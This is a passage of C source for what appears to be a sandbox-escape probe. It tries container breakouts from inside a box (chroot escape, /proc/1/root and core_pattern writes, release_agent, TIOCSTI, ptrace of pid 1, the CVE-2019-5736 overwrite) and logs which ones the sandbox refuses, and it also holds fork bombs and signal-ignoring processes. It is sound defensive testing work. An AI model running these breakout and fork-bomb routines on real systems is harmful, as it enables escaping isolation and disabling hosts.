/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The attacker: one static program that tries, from inside a box, what docs number as attacks, and
 * prints one JSON line: every try, with the errno that refused it. It judges nothing; the tests do.
 * A try counts as a success only when it got what it was after. Also run outside, as the control.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/audit.h>
#include <linux/bpf.h>
#include <linux/netlink.h>
#include <linux/perf_event.h>
#include <linux/vm_sockets.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef AF_ALG
#define AF_ALG 38
#endif
/* Younger than some libcs' headers. */
#define NR_CLONE3        435
#define NR_LISTMOUNT     458
#define NR_PIDFD_GETFD   438
#define NR_PIDFD_OPEN    434
#define NR_OPEN_TREE     428
#define NR_MOVE_MOUNT    429
#define NR_FSOPEN        430
#define NR_FSCONFIG      431
#define NR_FSMOUNT       432
#define NR_MOUNT_SETATTR 442

static char report[1 << 16];
static size_t used;
static bool any_ok;
static int first_errno;
static unsigned int n_tries;

static void __attribute__((format(printf, 1, 2))) add(const char *format, ...)
{
	va_list ap;
	int n;

	va_start(ap, format);
	n = vsnprintf(report + used, sizeof(report) - used, format, ap);
	va_end(ap);
	if (n > 0 && used + (size_t)n < sizeof(report))
		used += (size_t)n;
}

/* One try; negative RESULT: it failed and errno says why. Returns whether it worked. */
static bool tried(const char *what, long result)
{
	int err = errno;

	add("%s{\"what\":\"%s\",\"ok\":%s,\"errno\":", n_tries++ ? "," : "", what,
	    result >= 0 ? "true" : "false");
	if (result >= 0)
		add("null}");
	else
		add("\"%s\"}", strerrorname_np(err) ? strerrorname_np(err) : "?");
	if (result >= 0)
		any_ok = true;
	else if (!first_errno)
		first_errno = err;
	return result >= 0;
}

static void tried_path(const char *verb, const char *path, long result)
{
	int err = errno;
	char what[512];

	snprintf(what, sizeof(what), "%s %.480s", verb, path);
	errno = err;
	tried(what, result);
}

/* Reading nothing is as good as a refusal. */
static long can_read(const char *path)
{
	int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC), err;
	char byte;
	ssize_t n;

	if (fd < 0)
		return -1;
	n = read(fd, &byte, 1);
	err = errno;
	close(fd);
	errno = n == 0 ? ENODATA : err;
	return n > 0 ? 0 : -1;
}

/* Opens for writing and writes nothing: the control does this to the real thing. */
static long can_write(const char *path)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);

	if (fd >= 0)
		close(fd);
	return fd;
}

static long can_list(const char *path)
{
	DIR *dir = opendir(path);
	long n = 0;

	if (!dir)
		return -1;
	while (readdir(dir))
		n++;
	closedir(dir);
	errno = ENODATA;
	return n > 2 ? 0 : -1;
}

static long exists(const char *path)
{
	struct stat st;

	return lstat(path, &st);
}

/* What would hurt a whole machine is tried behind a user namespace only. */
static bool in_box(void)
{
	char map[64] = "";
	int fd = open("/proc/self/uid_map", O_RDONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, map, sizeof(map) - 1);

	if (fd >= 0)
		close(fd);
	return n > 0 && !strstr(map, "4294967295");
}

static pid_t sleeper(void)
{
	pid_t pid = fork();

	if (pid == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		for (;;)
			pause();
	}
	return pid;
}

/* ---- file system ---- */

static void dotdot(char **arg)
{
	char path[4096], up[256] = "";

	for (int i = 0; i < 60; i++)
		strcat(up, "../");
	snprintf(path, sizeof(path), "%s%s", up, arg[0]);
	tried("read by ../ chain", can_read(path));
	snprintf(path, sizeof(path), "/%s%s", up, arg[0]);
	tried("read by /../ chain", can_read(path));
	snprintf(path, sizeof(path), "/proc/self/cwd/%s%s", up, arg[0]);
	tried("read by /proc/self/cwd/../", can_read(path));
	snprintf(path, sizeof(path), "/dev/fd/../../root/%s%s", up, arg[0]);
	tried("read by /dev/fd/../../root", can_read(path));
}

static void through_symlink(char **arg)
{
	char path[4096];

	snprintf(path, sizeof(path), "%s/%s", arg[0], arg[1]);
	tried_path("create", path, open(path, O_CREAT | O_EXCL | O_WRONLY, 0600));
}

static void chroot_breakout(char **arg)
{
	int root = open("/", O_RDONLY | O_DIRECTORY);

	mkdir("hole", 0755);
	if (!tried("chroot", chroot("hole")))
		return;
	tried("fchdir", fchdir(root));
	for (int i = 0; i < 60; i++)
		if (chdir("..") < 0)
			break;
	if (chroot(".") == 0)
		tried("read host file after breakout", can_read(arg[0]));
}

static void change_root(char **arg)
{
	(void)arg;
	mkdir("hole", 0755);
	if (tried("mount tmpfs", mount("none", "hole", "tmpfs", 0, NULL)) && chdir("hole") < 0)
		return;
	tried("pivot_root", syscall(SYS_pivot_root, ".", "."));
}

/* Where overlayfs says its layers are, and the roots of other processes. */
static void lower_layer(char **arg)
{
	char line[4096], path[8192];
	FILE *f = fopen("/proc/self/mountinfo", "r");
	int fd;

	snprintf(path, sizeof(path), "/proc/self/root%s", arg[0]);
	fd = open(path, O_WRONLY | O_TRUNC); /* the clone's file: may be written, must not reach the host's */
	if (fd >= 0 && write(fd, "overwritten", 11) != 11)
		close(fd);
	snprintf(path, sizeof(path), "/proc/1/root%s", arg[0]);
	tried("write by /proc/1/root", can_write(path));
	while (f && fgets(line, sizeof(line), f)) {
		char *at = strstr(line, "lowerdir=");

		if (!at)
			continue;
		at += strlen("lowerdir=");
		at[strcspn(at, ":,\n")] = '\0';
		snprintf(path, sizeof(path), "%s/%s", at, strrchr(arg[0], '/') + 1);
		tried_path("write by", at, can_write(path));
	}
	if (f)
		fclose(f);
}

static void bind_over(char **arg)
{
	mkdir("hole", 0755);
	tried("mount --bind", mount("hole", arg[0], NULL, MS_BIND, NULL));
	tried("umount", umount2(arg[0], MNT_DETACH));
	tried("remount read-write", mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL));
}

/* PARENT, PROTECTED below it, SECRET below that or - if it is PROTECTED itself, and the text
 * of the secret. */
static void rename_parent(char **arg)
{
	char moved[4096], path[8192], text[256] = "";
	int renamed, fd;
	size_t n;

	snprintf(moved, sizeof(moved), "%s.moved", arg[0]);
	snprintf(path, sizeof(path), "%s/%s", arg[0], arg[1]);
	tried("rename protected", rename(path, moved));
	tried("rmdir protected", rmdir(path));
	tried("exchange protected", syscall(SYS_renameat2, AT_FDCWD, path, AT_FDCWD, "other", 2));
	renamed = rename(arg[0], moved);
	n = (size_t)snprintf(path, sizeof(path), "%s/%s", renamed == 0 ? moved : arg[0], arg[1]);
	if (strcmp(arg[2], "-") != 0)
		snprintf(path + n, sizeof(path) - n, "/%s", arg[2]);
	fd = open(path, O_RDONLY);
	errno = fd < 0 ? errno : ENODATA;
	tried("read secret",
	      fd >= 0 && read(fd, text, sizeof(text) - 1) > 0 && strstr(text, arg[3]) ? 0 : -1);
}

/* ---- /proc and /sys ---- */

#define ALL(verb, test, ...)                                                     \
	do {                                                                     \
		static const char *const paths_[] = { __VA_ARGS__ };             \
		for (size_t i_ = 0; i_ < sizeof(paths_) / sizeof(*paths_); i_++) \
			tried_path(verb, paths_[i_], test(paths_[i_]));          \
	} while (0)

/* Names of symbols are in every distribution's package; their addresses are the secret. */
static long kernel_addresses(void)
{
	FILE *f = fopen("/proc/kallsyms", "r");
	unsigned long long address = 0;

	if (!f)
		return -1;
	while (!address && fscanf(f, "%llx%*[^\n]", &address) == 1)
		;
	fclose(f);
	errno = ENODATA;
	return address ? 0 : -1;
}

static void proc_secrets(char **arg)
{
	(void)arg;
	ALL("read", can_read, "/proc/kcore", "/proc/keys", "/proc/key-users", "/proc/timer_list",
	    "/proc/kmsg", "/proc/interrupts", "/proc/sched_debug", "/proc/kpagecount", "/proc/vmallocinfo");
	tried("addresses of /proc/kallsyms", kernel_addresses());
}

static void sysrq(char **arg)
{
	(void)arg;
	ALL("write", can_write, "/proc/sysrq-trigger", "/proc/sys/kernel/sysrq");
}

static void core_pattern(char **arg)
{
	(void)arg;
	ALL("write", can_write, "/proc/sys/kernel/core_pattern", "/proc/sys/fs/binfmt_misc/register");
}

static void helper_paths(char **arg)
{
	(void)arg;
	ALL("write", can_write, "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hotplug",
	    "/proc/sys/kernel/poweroff_cmd", "/proc/sys/kernel/usermodehelper/bset",
	    "/sys/kernel/uevent_helper");
}

static void cgroup_mount(char **arg)
{
	(void)arg;
	mkdir("hole", 0755);
	tried("mount cgroup2", mount("none", "hole", "cgroup2", 0, NULL));
	tried("mount cgroup memory", mount("none", "hole", "cgroup", 0, "memory"));
	ALL("write", can_write, "hole/release_agent", "/sys/fs/cgroup/release_agent",
	    "/sys/fs/cgroup/memory/release_agent");
}

static void cgroup_limits(char **arg)
{
	(void)arg;
	ALL("write", can_write, "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory.max",
	    "/sys/fs/cgroup/pids.max", "/sys/fs/cgroup/memory/memory.limit_in_bytes",
	    "/sys/fs/cgroup/pids/tasks", "/sys/fs/cgroup/unified/cgroup.procs");
}

static void proc_one(char **arg)
{
	static const char *const names[] = { "mem", "environ", "maps", "stack", "auxv", "pagemap" };
	static const char *const links[] = { "root", "cwd", "exe" };
	const char *who = arg[0] ? arg[0] : "1";
	char path[64], target[256];

	for (size_t i = 0; i < sizeof(names) / sizeof(*names); i++) {
		snprintf(path, sizeof(path), "/proc/%s/%s", who, names[i]);
		tried_path("read", path, strcmp(names[i], "mem") ? can_read(path) : open(path, O_RDONLY));
	}
	for (size_t i = 0; i < sizeof(links) / sizeof(*links); i++) {
		snprintf(path, sizeof(path), "/proc/%s/%s", who, links[i]);
		tried_path("readlink", path, readlink(path, target, sizeof(target)));
	}
	snprintf(path, sizeof(path), "/proc/%s/root/", who);
	tried_path("list", path, can_list(path));
	snprintf(path, sizeof(path), "/proc/%s/fd", who);
	tried_path("list", path, can_list(path));
	snprintf(path, sizeof(path), "/proc/%s/fd/3", who);
	tried_path("open", path, open(path, O_RDONLY));
}

/* The same on a process that may be looked at: proves that the probe can. */
static void proc_sibling(char **arg)
{
	char who[16], *words[] = { who };
	pid_t pid = sleeper();

	(void)arg;
	snprintf(who, sizeof(who), "%d", (int)pid);
	proc_one(words);
	kill(pid, SIGKILL);
}

static void jail_exe(char **arg)
{
	(void)arg;
	ALL("open", can_read, "/proc/1/exe");
	ALL("write", can_write, "/proc/1/exe", "/proc/1/task/1/exe");
}

/* FILE is the program this process runs: writing it while it runs is what CVE-2019-5736 comes down to. */
static void overwrite(char **arg)
{
	tried_path("overwrite", arg[0], open(arg[0], O_WRONLY | O_TRUNC));
}

static void sysfs(char **arg)
{
	(void)arg;
	ALL("exists", exists, "/sys/firmware", "/sys/class", "/sys/devices/system/cpu/cpu0/thermal_throttle",
	    "/sys/kernel/debug", "/sys/kernel/security", "/sys/kernel/tracing", "/sys/fs", "/sys/module",
	    "/sys/block", "/sys/power");
	tried("create in /sys", open("/sys/new", O_CREAT | O_WRONLY, 0600));
}

/* ---- devices, terminals, descriptors ---- */

static void make_nodes(char **arg)
{
	(void)arg;
	tried("mknod c 0 0", mknod("/tmp/whiteout", S_IFCHR | 0600, makedev(0, 0)));
	tried("mknod c 1 1", mknod("mem", S_IFCHR | 0600, makedev(1, 1)));
	tried("mknod b 8 0", mknod("disk", S_IFBLK | 0600, makedev(8, 0)));
	tried("mknodat c 5 1", mknodat(AT_FDCWD, "console", S_IFCHR | 0600, makedev(5, 1)));
	tried("renameat2 whiteout",
	      syscall(SYS_renameat2, AT_FDCWD, "/tmp/whiteout", AT_FDCWD, "/tmp/two", 4));
}

static void devices(char **arg)
{
	(void)arg;
	ALL("exists", exists, "/dev/mem", "/dev/kmem", "/dev/port", "/dev/kvm", "/dev/fuse", "/dev/net/tun",
	    "/dev/kmsg", "/dev/sda", "/dev/vda", "/dev/vsock", "/dev/userfaultfd", "/dev/console",
	    "/dev/tty0", "/dev/mapper", "/dev/dri", "/dev/input", "/dev/uinput", "/dev/cpu",
	    "/dev/btrfs-control", "/dev/hwrng");
}

static void loops(char **arg)
{
	(void)arg;
	ALL("exists", exists, "/dev/loop-control", "/dev/loop0", "/dev/nbd0", "/dev/zram0");
}

/* In a session of its own with a fresh pseudo terminal as the controlling one; the child reports. */
static int own_terminal(void)
{
	pid_t pid = fork();
	int master, unlock = 0, number = 0;
	char path[32];

	if (pid > 0) {
		int status;

		waitpid(pid, &status, 0);
		_exit(WIFEXITED(status) ? WEXITSTATUS(status) : 1);
	}
	setsid();
	master = open("/dev/ptmx", O_RDWR | O_NOCTTY);
	if (master < 0 || ioctl(master, TIOCSPTLCK, &unlock) < 0 || ioctl(master, TIOCGPTN, &number) < 0)
		return -1;
	snprintf(path, sizeof(path), "/dev/pts/%d", number);
	return open(path, O_RDWR);
}

static void type_ahead(char **arg)
{
	int tty = own_terminal();

	(void)arg;
	tried("TIOCSTI", syscall(SYS_ioctl, tty, 0x5412UL, "x"));
	tried("TIOCSTI, high bits", syscall(SYS_ioctl, tty, 0xdeadbeef00005412UL, "x"));
}

static void console_paste(char **arg)
{
	char code[2] = { 3, 0 };
	int tty = own_terminal();

	(void)arg;
	tried("TIOCLINUX", syscall(SYS_ioctl, tty, 0x541cUL, code));
	tried("TIOCLINUX, high bits", syscall(SYS_ioctl, tty, 0xffffffff0000541cUL, code));
	tried("TIOCSETD", syscall(SYS_ioctl, tty, 0x5423UL, &(int){ 0 }));
}

static void descriptors(char **arg)
{
	char what[32];

	(void)arg;
	for (int fd = 3; fd < 4096; fd++)
		if (fcntl(fd, F_GETFD) >= 0) {
			snprintf(what, sizeof(what), "descriptor %d", fd);
			tried(what, 0);
		}
	errno = EBADF;
	if (!any_ok)
		tried("any descriptor above 2", -1);
}

/* A name beginning with @ is abstract. */
static int dial(const char *name, int type)
{
	struct sockaddr_un to = { .sun_family = AF_UNIX };
	socklen_t len = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + strlen(name));
	int fd = socket(AF_UNIX, type, 0);

	strncpy(to.sun_path, name, sizeof(to.sun_path) - 1);
	if (name[0] == '@')
		to.sun_path[0] = '\0';
	else
		len++;
	return connect(fd, (struct sockaddr *)&to, len) < 0 ? -1 : fd;
}

static void take_descriptor(char **arg)
{
	for (; *arg; arg++) {
		char byte, room[CMSG_SPACE(sizeof(int))];
		struct iovec iov = { &byte, 1 };
		struct msghdr m = {
			.msg_iov = &iov, .msg_iovlen = 1, .msg_control = room, .msg_controllen = sizeof(room)
		};
		int fd = dial(*arg, SOCK_STREAM);
		long got = fd < 0 ? -1 : recvmsg(fd, &m, 0);

		tried_path("descriptor from", *arg, got >= 0 && CMSG_FIRSTHDR(&m) ? 0 : -1);
	}
}

static void dial_socket(char **arg)
{
	tried_path("connect", arg[0], dial(arg[0], SOCK_STREAM));
	tried_path("connect datagram", arg[0], dial(arg[0], SOCK_DGRAM));
}

static void write_fifo(char **arg)
{
	int fd = open(arg[0], O_WRONLY | O_NONBLOCK);

	tried_path("write fifo", arg[0], fd < 0 ? -1 : write(fd, "from inside", 11));
}

/* ---- namespaces and capabilities ---- */

static void unshare_user(char **arg)
{
	(void)arg;
	tried("unshare user", unshare(CLONE_NEWUSER));
	tried("unshare all", unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWNET | CLONE_NEWPID));
}

static long raw_clone(unsigned long flags)
{
	long pid = syscall(SYS_clone, flags | SIGCHLD, 0, 0, 0, 0);

	if (pid == 0)
		_exit(0);
	return pid;
}

static void clone_bits(char **arg)
{
	(void)arg;
	tried("clone newuser", raw_clone(CLONE_NEWUSER));
	tried("clone newuser newns", raw_clone(CLONE_NEWUSER | CLONE_NEWNS));
	tried("clone newuser newnet", raw_clone(CLONE_NEWUSER | CLONE_NEWNET));
	tried("clone newuser newcgroup", raw_clone(CLONE_NEWUSER | CLONE_NEWCGROUP));
}

static void clone_three(char **arg)
{
	struct {
		uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls;
	} how = { .exit_signal = SIGCHLD };
	long pid = syscall(NR_CLONE3, &how, sizeof(how));

	(void)arg;
	if (pid == 0)
		_exit(0);
	tried("clone3", pid);
}

static void enter_namespace(char **arg)
{
	int pidfd = (int)syscall(NR_PIDFD_OPEN, getpid(), 0), one = (int)syscall(NR_PIDFD_OPEN, 1, 0);

	(void)arg;
	tried("setns own uts by pidfd", setns(pidfd, CLONE_NEWUTS));
	tried("setns pid 1", setns(one, CLONE_NEWNS | CLONE_NEWUSER));
	tried("setns by /proc", setns(open("/proc/self/ns/uts", O_RDONLY), 0));
}

static void nested_nftables(char **arg)
{
	(void)arg;
	tried("unshare user and net", unshare(CLONE_NEWUSER | CLONE_NEWNET));
	tried("netlink netfilter", socket(AF_NETLINK, SOCK_RAW, NETLINK_NETFILTER));
}

static void set_groups(char **arg)
{
	gid_t inside[] = { 4, 42 }, outside[] = { 4000000 };

	(void)arg;
	tried("setgroups adm shadow", setgroups(2, inside));
	tried("setgroups unmapped", setgroups(1, outside));
}

static void attack_supervisor(char **arg)
{
	pid_t victim = (pid_t)atoi(arg[0]);

	if (in_box())
		tried("ptrace pid 1", ptrace(PTRACE_ATTACH, 1, NULL, NULL));
	tried("ptrace victim", ptrace(PTRACE_ATTACH, victim, NULL, NULL));
	tried("pidfd of victim", syscall(NR_PIDFD_OPEN, victim, 0));
	if (in_box()) {
		kill(1, SIGKILL); /* says 0 and does nothing: pid 1 takes no signal from inside */
		kill(1, SIGSTOP);
		kill(-1, SIGKILL);
	}
	tried("kill victim", kill(victim, SIGKILL));
}

static void host_name(char **arg)
{
	(void)arg;
	tried("sethostname", sethostname("owned", 5));
	tried("setdomainname", setdomainname("owned", 5));
	tried("write hostname", can_write("/proc/sys/kernel/hostname"));
}

/* ---- system calls ---- */

static void io_uring(char **arg)
{
	char params[256] = { 0 };

	(void)arg;
	tried("io_uring_setup", syscall(425, 8, params));
	tried("io_uring_enter", syscall(426, -1, 0, 0, 0, NULL, 0));
	tried("io_uring_register", syscall(427, -1, 0, NULL, 0));
}

static void bpf_call(char **arg)
{
	union bpf_attr attr = {
		.map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4, .max_entries = 1
	};

	(void)arg;
	tried("bpf map create", syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof(attr)));
}

static void keys(char **arg)
{
	(void)arg;
	tried("keyctl", syscall(SYS_keyctl, 0 /* get keyring id */, -3 /* session */, 1));
	tried("add_key", syscall(SYS_add_key, "user", "aisbx-test", "x", 1, -2 /* process */));
	tried("request_key", syscall(SYS_request_key, "user", "aisbx-test", NULL, -2));
}

static void user_faults(char **arg)
{
	(void)arg;
	tried("userfaultfd", syscall(SYS_userfaultfd, O_CLOEXEC | 1 /* user mode only */));
}

static void trace_sibling(char **arg)
{
	pid_t pid = sleeper();

	(void)arg;
	tried("ptrace attach", ptrace(PTRACE_ATTACH, pid, NULL, NULL));
	kill(pid, SIGKILL);
	pid = sleeper();
	tried("ptrace seize", ptrace(PTRACE_SEIZE, pid, NULL, NULL));
	kill(pid, SIGKILL);
}

/* Of a parent whose memory is its own one looks at the registers (LeakSanitizer does), and no more. */
static int trace_parent(void *data)
{
	static const struct {
		const char *name;
		long request;
	} more[] = { { "set registers", PTRACE_SETREGS },  { "read", PTRACE_PEEKDATA },
		     { "write", PTRACE_POKEDATA },         { "options", PTRACE_SETOPTIONS },
		     { "calls", PTRACE_SYSCALL },          { "step", PTRACE_SINGLESTEP },
		     { "interrupt", PTRACE_INTERRUPT },    { "set registers (set)", PTRACE_SETREGSET },
		     { "signal mask", PTRACE_SETSIGMASK }, { "signal", PTRACE_SETSIGINFO } };
	static struct user_regs_struct regs;
	pid_t parent = getppid();
	int status;

	tried("seize", syscall(SYS_ptrace, PTRACE_SEIZE, parent, 0L, 0L));
	if (in_box()) /* elsewhere it would stay stopped */
		tried("grandparent", syscall(SYS_ptrace, PTRACE_ATTACH, *(pid_t *)data, 0L, 0L));
	if (!tried("attach", syscall(SYS_ptrace, PTRACE_ATTACH, parent, 0L, 0L)))
		return 0;
	waitpid(parent, &status, __WALL);
	tried("get registers", syscall(SYS_ptrace, PTRACE_GETREGS, parent, 0L, &regs));
	for (size_t i = 0; i < sizeof(more) / sizeof(*more); i++)
		tried(more[i].name, syscall(SYS_ptrace, more[i].request, parent, 0L, &regs));
	tried("detach", syscall(SYS_ptrace, PTRACE_DETACH, parent, 0L, 0L));
	return 0;
}

/* A parent that has become another program has a memory of its own. */
static int trace_program(void *data)
{
	int *ends =
		data; /* of two pipes: the first is closed by the other program, into the second we write */
	char byte;

	close(ends[1]);
	if (read(ends[0], &byte, 1) != 0)
		_exit(1);
	ends[4] = syscall(SYS_ptrace, PTRACE_ATTACH, getppid(), 0L, 0L) < 0 ? errno : 0;
	return write(ends[3], &ends[4], sizeof(int)) != sizeof(int);
}

static int sleep_on(void *data)
{
	(void)data;
	while (pause() < 0)
		;
	return 0;
}

static pid_t start_in_same_memory(int (*work)(void *), void *data)
{
	size_t size = 256 * 1024;
	char *stack = malloc(size);

	return stack ? clone(work, stack + size, CLONE_VM | SIGCHLD, data) : -1;
}

static void trace_own_memory(char **arg)
{
	pid_t above = getppid(), pid, other;
	int ends[5] = { -1, -1, -1, -1, -1 };

	(void)arg;
	prctl(PR_SET_PTRACER, PR_SET_PTRACER_ANY); /* where only descendants are traced */
	pid = start_in_same_memory(trace_parent, &above);
	waitpid(pid, NULL, 0);
	other = start_in_same_memory(sleep_on, NULL);
	tried("child", syscall(SYS_ptrace, PTRACE_ATTACH, other, 0L, 0L));
	kill(other, SIGKILL);
	waitpid(other, NULL, 0);
	if (pipe2(ends, O_CLOEXEC) < 0 || pipe2(ends + 2, O_CLOEXEC) < 0)
		return;
	pid = fork();
	if (pid == 0) {
		prctl(PR_SET_PTRACER, PR_SET_PTRACER_ANY);
		start_in_same_memory(trace_program, ends);
		execlp("sleep", "sleep", "1000", NULL);
		_exit(127);
	}
	close(ends[1]);
	close(ends[3]);
	if (read(ends[2], &ends[4], sizeof(int)) != sizeof(int))
		ends[4] = -1;
	errno = ends[4];
	tried("program", ends[4] ? -1 : 0);
	kill(pid, SIGKILL);
}

static void foreign_memory(char **arg)
{
	static char secret[8] = "secret";
	char got[8] = "";
	struct iovec here = { got, sizeof(got) }, there = { secret, sizeof(secret) };
	pid_t pid = sleeper();

	(void)arg;
	tried("process_vm_readv", process_vm_readv(pid, &here, 1, &there, 1, 0));
	tried("process_vm_writev", process_vm_writev(pid, &here, 1, &there, 1, 0));
	kill(pid, SIGKILL);
}

static void file_handles(char **arg)
{
	struct {
		struct file_handle head;
		char room[MAX_HANDLE_SZ];
	} h = { .head.handle_bytes = MAX_HANDLE_SZ };
	int mount_id;

	(void)arg;
	tried("name_to_handle_at", name_to_handle_at(AT_FDCWD, "/etc", &h.head, &mount_id, 0));
	tried("open_by_handle_at", open_by_handle_at(AT_FDCWD, &h.head, O_RDONLY));
}

static void new_mount_calls(char **arg)
{
	int fs, mnt;

	(void)arg;
	mkdir("hole", 0755);
	fs = (int)syscall(NR_FSOPEN, "tmpfs", 0);
	tried("fsopen", fs);
	tried("fsconfig", syscall(NR_FSCONFIG, fs, 6 /* create */, NULL, NULL, 0));
	mnt = (int)syscall(NR_FSMOUNT, fs, 0, 0);
	tried("fsmount", mnt);
	tried("move_mount", syscall(NR_MOVE_MOUNT, mnt, "", AT_FDCWD, "hole", 4 /* empty path */));
	tried("open_tree", syscall(NR_OPEN_TREE, AT_FDCWD, "hole", 1 /* clone */));
	tried("mount_setattr", syscall(NR_MOUNT_SETATTR, AT_FDCWD, "hole", 0, &(uint64_t[4]){ 0 }, 32));
}

static void perf(char **arg)
{
	struct perf_event_attr attr = { .type = PERF_TYPE_SOFTWARE,
					.size = sizeof(attr),
					.config = PERF_COUNT_SW_TASK_CLOCK,
					.exclude_kernel = 1 };

	(void)arg;
	tried("perf_event_open", syscall(SYS_perf_event_open, &attr, 0, -1, -1, 0));
}

/* Arguments that the kernel refuses anyway, should the filter let them through. */
static void kernel_code(char **arg)
{
	(void)arg;
	tried("kexec_load", syscall(SYS_kexec_load, 0UL, ~0UL, NULL, ~0UL));
	tried("kexec_file_load", syscall(SYS_kexec_file_load, -1, -1, 0UL, NULL, ~0UL));
	tried("init_module", syscall(SYS_init_module, NULL, 0UL, ""));
	tried("finit_module", syscall(SYS_finit_module, -1, "", 0));
	tried("delete_module", syscall(SYS_delete_module, "aisbx-no-such-module", O_NONBLOCK));
}

static void steal_descriptor(char **arg)
{
	pid_t pid = sleeper();
	int pidfd = (int)syscall(NR_PIDFD_OPEN, pid, 0), one = (int)syscall(NR_PIDFD_OPEN, 1, 0);

	(void)arg;
	tried("pidfd_getfd of a child", syscall(NR_PIDFD_GETFD, pidfd, 0, 0));
	tried("pidfd_getfd of pid 1", syscall(NR_PIDFD_GETFD, one, 3, 0));
	kill(pid, SIGKILL);
}

static void vsock(char **arg)
{
	(void)arg;
	tried("AF_VSOCK stream", socket(AF_VSOCK, SOCK_STREAM, 0));
	tried("AF_VSOCK datagram", socket(AF_VSOCK, SOCK_DGRAM, 0));
}

static void alg(char **arg)
{
	(void)arg;
	tried("AF_ALG", socket(AF_ALG, SOCK_SEQPACKET, 0));
}

static void netlink(char **arg)
{
	(void)arg;
	tried("audit", socket(AF_NETLINK, SOCK_RAW, NETLINK_AUDIT));
	tried("netfilter", socket(AF_NETLINK, SOCK_RAW, NETLINK_NETFILTER));
	tried("kobject", socket(AF_NETLINK, SOCK_RAW, NETLINK_KOBJECT_UEVENT));
	tried("generic", socket(AF_NETLINK, SOCK_RAW, NETLINK_GENERIC));
	tried("sock_diag", socket(AF_NETLINK, SOCK_RAW, NETLINK_SOCK_DIAG));
	tried("family with high bits", syscall(SYS_socket, 0x100000010UL, SOCK_RAW, NETLINK_NETFILTER));
}

static void raw_sockets(char **arg)
{
	(void)arg;
	tried("AF_PACKET raw", socket(AF_PACKET, SOCK_RAW, 0));
	tried("AF_PACKET datagram", socket(AF_PACKET, SOCK_DGRAM, 0));
	tried("AF_INET raw", socket(AF_INET, SOCK_RAW, 255));
	tried("AF_INET raw icmp", socket(AF_INET, SOCK_RAW, 1));
	tried("AF_INET6 raw", socket(AF_INET6, SOCK_RAW, 58));
	tried("AF_INET raw, flags", socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC | SOCK_NONBLOCK, 255));
}

/* getpid as a 32-bit program asks: 20 is its number there. */
static void int80(char **arg)
{
	long r = 20;

	(void)arg;
	__asm__ volatile("int $0x80" : "+a"(r) : : "memory", "r8", "r9", "r10", "r11");
	errno = (int)-r;
	tried("int 0x80 getpid", r);
}

static void x32(char **arg)
{
	(void)arg;
	tried("x32 getpid", syscall(0x40000000 | SYS_getpid));
}

static void unknown_number(char **arg)
{
	char ids[64], request[64] = { 24 };

	(void)arg;
	tried("number 999", syscall(999));
	tried("number 0x3fffffff", syscall(0x3fffffff));
	memcpy(request + 8, &(uint64_t){ ~0ULL }, 8); /* the root mount */
	tried("listmount", syscall(NR_LISTMOUNT, request, ids, 4UL, 0UL));
}

/* ---- resources ---- */

/* BYTES, then "line" for one line without end. */
static void flood(char **arg)
{
	static char block[1 << 16];
	long long left = atoll(arg[0]);
	int step = arg[1] ? 0 : 80;

	memset(block, 'a', sizeof(block));
	for (int i = step - 1; step && i < (int)sizeof(block); i += step)
		block[i] = '\n';
	while (left > 0) {
		ssize_t n = write(1, block, left < (long long)sizeof(block) ? (size_t)left : sizeof(block));

		if (n <= 0)
			_exit(1);
		left -= n;
	}
	_exit(0);
}

static void hold_on(const char *how)
{
	static const int all[] = { SIGTERM, SIGINT, SIGHUP, SIGQUIT, SIGALRM, SIGUSR1, SIGCHLD, SIGPIPE };

	for (size_t i = 0; i < sizeof(all) / sizeof(*all); i++)
		signal(all[i], SIG_IGN);
	if (!strcmp(how, "stop"))
		raise(SIGSTOP);
	for (;;)
		if (strcmp(how, "spin") != 0)
			pause();
		else if (fork() > 0) /* a new process id every moment */
			_exit(0);
}

/* MARKER is for the test to find us by; "leave" ends the first process and leaves the others. */
static void survive(char **arg)
{
	static const char *const hows[] = { "daemon", "stop", "session" };

	for (size_t i = 0; i < sizeof(hows) / sizeof(*hows); i++) {
		if (fork() > 0)
			continue;
		if (i == 0 && (setsid() < 0 || fork() > 0))
			_exit(0);
		if (i == 2)
			setsid();
		hold_on(hows[i]);
	}
	dprintf(1, "started\n");
	if (arg[1] && !strcmp(arg[1], "leave"))
		_exit(0);
	hold_on("main");
}

/* The ways not to die that nasty knows. Each runs in a process of its own. */
static void keep_forking(void)
{
	for (;;)
		if (fork() > 0)
			_exit(0); /* the child goes on, under another number and somebody else's child */
}

static void breed(void)
{
	for (;;)
		if (fork() == 0)
			setsid();
}

static void daemonize(void)
{
	if (setsid() < 0 || fork() > 0)
		_exit(0);
	setpgid(0, 0);
	hold_on("daemon");
}

static void stop_all(void)
{
	for (;;) {
		kill(-1, SIGSTOP); /* pid 1 does not mind, and nor do we: it is never sent to oneself */
		usleep(1000);
	}
}

static void hang_in_vfork(void)
{
	if (vfork() == 0) /* the parent sleeps until this one ends or executes something */
		for (;;)
			pause();
}

static void *spin_thread(void *arg)
{
	for (volatile unsigned long n = 0;; n++)
		if (n % 10000000 == 0 && arg)
			sched_yield();
	return NULL;
}

static void lose_leader(void)
{
